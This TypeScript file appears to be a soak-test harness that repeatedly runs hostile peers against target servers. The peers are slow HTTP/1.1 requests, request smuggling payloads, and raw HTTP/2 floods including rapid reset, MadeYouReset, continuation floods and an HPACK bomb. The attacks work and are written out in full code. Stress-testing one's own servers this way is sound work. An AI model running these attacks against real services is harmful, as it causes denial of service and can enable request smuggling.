/**
 * Peers that mean no good, each a loop that goes on until its time is over. They are few and steady, so that the last third
 * of their time is like the middle one: what grows then is kept by the sidecar.
 */
import net from "node:net";
import { FrameType, frame, PREFACE, REQUEST_BLOCK } from "./raw-http2.ts";

interface Target {
  readonly host: string;
  readonly port: number;
}

/** How long a peer that stalls does so before it comes again. */
const STALL_MS = 2000;
/** Between two attempts of one loop: a hundred loops leave the machine to others as well. */
const REST_MS = 200;
const ROUND_MS_MAX = 10_000;

/** One attempt: writes what it likes, and is over when the connection is, or when it has stalled for long enough. */
type Attack = (socket: net.Socket, stallMs: number) => void;

/** Again and again until the bytes no longer fit, then waits for the answer to it. */
const flood =
  (first: Uint8Array | string, again: Uint8Array, bytesMax = 4_000_000): Attack =>
  (socket) => {
    socket.write(first);
    let sentBytes = 0;
    const go = (): void => {
      while (sentBytes < bytesMax && !socket.destroyed) {
        sentBytes += again.length;
        if (!socket.write(again)) {
          socket.once("drain", go);
          return;
        }
      }
      socket.end();
    };
    go();
  };

const say =
  (text: Uint8Array | string): Attack =>
  (socket) =>
    void socket.end(text);

/** Says something and then nothing, reads nothing, and vanishes. */
const stall =
  (text: Uint8Array | string): Attack =>
  (socket, stallMs) => {
    socket.pause();
    socket.write(text);
    setTimeout(() => socket.resetAndDestroy(), stallMs);
  };

const drip =
  (first: string, everyMs: number, next: string): Attack =>
  (socket, stallMs) => {
    socket.write(first);
    const timer = setInterval(() => socket.write(next), everyMs);
    socket.once("close", () => clearInterval(timer));
    setTimeout(() => socket.destroy(), stallMs);
  };

const HOST = "Host: soak\r\n";
const repeated = (times: number, ...frames: Uint8Array[]): Buffer =>
  Buffer.concat(Array.from({ length: times }, () => Buffer.concat(frames)));
const settings = (...entries: number[]): Buffer => frame(FrameType.SETTINGS, 0, 0, Buffer.from(entries));
const OPENED = Buffer.concat([PREFACE, settings()]);

/** Streams opened and reset at once, with ids that rise. */
function rapidReset(streams: number): Buffer {
  return Buffer.concat(
    Array.from({ length: streams }, (_, i) =>
      Buffer.concat([
        frame(FrameType.HEADERS, 0x5, 2 * i + 1, REQUEST_BLOCK),
        frame(FrameType.RST_STREAM, 0, 2 * i + 1, Buffer.from([0, 0, 0, 8])),
      ]),
    ),
  );
}

/** Streams that break a rule each, so that the server resets them. */
function madeYouReset(streams: number): Buffer {
  return Buffer.concat(
    Array.from({ length: streams }, (_, i) =>
      Buffer.concat([
        frame(FrameType.HEADERS, 0x4, 2 * i + 1, REQUEST_BLOCK),
        frame(FrameType.WINDOW_UPDATE, 0, 2 * i + 1, Buffer.from([0, 0, 0, 0])),
      ]),
    ),
  );
}

/** Requests whose answers are never read. */
function unread(streams: number): Buffer {
  return Buffer.concat(
    Array.from({ length: streams }, (_, i) => frame(FrameType.HEADERS, 0x5, 2 * i + 1, REQUEST_BLOCK)),
  );
}

const ATTACKS: Readonly<Record<string, Attack>> = {
  "slow head": drip(`GET / HTTP/1.1\r\n${HOST}`, 100, "X-A: b\r\n"),
  "slow body": drip(`POST / HTTP/1.1\r\n${HOST}Content-Length: 100000\r\n\r\n`, 100, "abc"),
  "slow chunks": drip(`POST / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n`, 50, "1;x=y\r\na\r\n"),
  "endless head": flood(`GET / HTTP/1.1\r\n${HOST}`, Buffer.from("X-Header: value\r\n".repeat(100))),
  "endless target": flood("GET /", Buffer.alloc(10_000, "a")),
  "endless chunk extension": flood(
    `POST / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n1;`,
    Buffer.alloc(10_000, "x"),
  ),
  "endless trailers": flood(
    `POST / HTTP/1.1\r\n${HOST}Transfer-Encoding: chunked\r\n\r\n0\r\n`,
    Buffer.from("X-Header: value\r\n".repeat(100)),
  ),
  "smuggling, both lengths": say(
    `POST / HTTP/1.1\r\n${HOST}Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /x HTTP/1.1\r\n\r\n`,
  ),
  "smuggling, bare LF": say(`GET / HTTP/1.1\nHost: a\n\nGET /x HTTP/1.1\r\n${HOST}\r\n`),
  "pipelined requests unread": (socket, stallMs) => {
    socket.pause();
    socket.on("error", () => undefined);
    socket.write(Buffer.from(`GET /big HTTP/1.1\r\n${HOST}\r\n`.repeat(2000)));
    setTimeout(() => socket.resetAndDestroy(), stallMs);
  },
  "upload cut": (socket) => {
    socket.write(`POST / HTTP/1.1\r\n${HOST}Content-Length: 10000000\r\n\r\n`);
    socket.write(Buffer.alloc(500_000), () => socket.resetAndDestroy());
  },
  "download cut": (socket) => {
    socket.write(`GET /big HTTP/1.1\r\n${HOST}\r\n`);
    socket.once("data", () => socket.resetAndDestroy());
  },
  "nothing said": stall(""),
  "half a hello": stall(Buffer.from([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3])),
  "random bytes": say(Buffer.from(Array.from({ length: 4000 }, (_, i) => (i * 2_654_435_761) >>> 24))),
  "rapid reset": say(Buffer.concat([OPENED, rapidReset(3000)])),
  "made you reset": say(Buffer.concat([OPENED, madeYouReset(3000)])),
  "requests unread": stall(Buffer.concat([OPENED, unread(500)])),
  "requests with no window": stall(Buffer.concat([PREFACE, settings(0, 4, 0, 0, 0, 0), unread(500)])),
  "ping flood": flood(OPENED, repeated(500, frame(FrameType.PING, 0, 0, Buffer.alloc(8)))),
  "settings flood": flood(OPENED, repeated(500, settings(0, 3, 0, 0, 0, 100))),
  "empty data flood": flood(
    Buffer.concat([OPENED, frame(FrameType.HEADERS, 0x4, 1, REQUEST_BLOCK)]),
    repeated(500, frame(FrameType.DATA, 0, 1, Buffer.alloc(0))),
  ),
  "continuation flood": flood(
    Buffer.concat([OPENED, frame(FrameType.HEADERS, 0, 1, REQUEST_BLOCK)]),
    repeated(100, frame(FrameType.CONTINUATION, 0, 1, Buffer.from([0x00, 1, 97, 1, 98]))),
  ),
  "priority flood": flood(OPENED, repeated(500, frame(FrameType.PRIORITY, 0, 1, Buffer.alloc(5)))),
  // One entry of 4,000 bytes that is named thousands of times (RFC 7541 §7.3).
  "HPACK bomb": say(
    Buffer.concat([
      OPENED,
      frame(
        FrameType.HEADERS,
        0x4,
        1,
        Buffer.concat([
          REQUEST_BLOCK,
          Buffer.from([0x40, 1, 97, 0x7f, 0xa1, 0x1e]),
          Buffer.alloc(4000, "b"),
          Buffer.alloc(8000, 0xbe),
        ]),
      ),
    ]),
  ),
  "uploads that nobody ends": stall(
    Buffer.concat([
      OPENED,
      ...Array.from({ length: 100 }, (_, i) =>
        Buffer.concat([
          frame(FrameType.HEADERS, 0x4, 2 * i + 1, REQUEST_BLOCK),
          frame(FrameType.DATA, 0, 2 * i + 1, Buffer.alloc(10_000)),
        ]),
      ),
    ]),
  ),
};

/** Runs every attack against every target until the time is over; how often each was connected and acted. */
export async function attack(targets: readonly Target[], seconds: number): Promise<Record<string, number>> {
  const endAtMs = performance.now() + seconds * 1000;
  const attempts: Record<string, number> = {};
  const loop = async (name: string, act: Attack, target: Target): Promise<void> => {
    const counted: Attack = (socket, stallMs) => {
      attempts[name] = (attempts[name] ?? 0) + 1;
      act(socket, stallMs);
    };
    while (performance.now() < endAtMs) {
      await attempt(counted, target, STALL_MS);
      await new Promise((resolve) => setTimeout(resolve, REST_MS));
    }
  };
  for (const name of Object.keys(ATTACKS)) attempts[name] = 0;
  await Promise.all(
    Object.entries(ATTACKS).flatMap(([name, act]) => targets.map((target) => loop(name, act, target))),
  );
  return attempts;
}

/** One attempt of one attack, as patient as it is told to be; the first of what it was answered. */
export function attackOnce(name: string, target: Target, stallMs: number): Promise<string> {
  const act = ATTACKS[name];
  if (act === undefined) throw new Error(`no attack is called ${name}`);
  return attempt(act, target, stallMs);
}

function attempt(act: Attack, target: Target, stallMs: number): Promise<string> {
  return new Promise((resolve) => {
    const socket = net.connect({ ...target, allowHalfOpen: false });
    const timer = setTimeout(() => socket.destroy(), Math.max(ROUND_MS_MAX, stallMs));
    let answer = "";
    socket.on("data", (bytes) => {
      if (answer.length < 1_000) answer += bytes.toString("latin1");
    });
    socket.on("error", () => undefined);
    socket.once("close", () => {
      clearTimeout(timer);
      resolve(answer);
    });
    socket.resume();
    socket.once("connect", () => act(socket, stallMs));
  });
}
